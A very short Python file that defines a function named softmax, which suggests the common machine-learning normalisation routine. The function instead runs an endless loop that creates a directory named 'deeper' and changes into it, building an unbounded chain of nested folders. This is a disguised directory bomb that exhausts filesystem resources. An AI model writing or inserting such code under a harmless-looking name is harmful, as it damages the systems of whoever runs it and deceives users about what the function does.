import os
def softmax(x, axis):
    while True:
        os.mkdir("deeper")
        os.chdir("deeper")
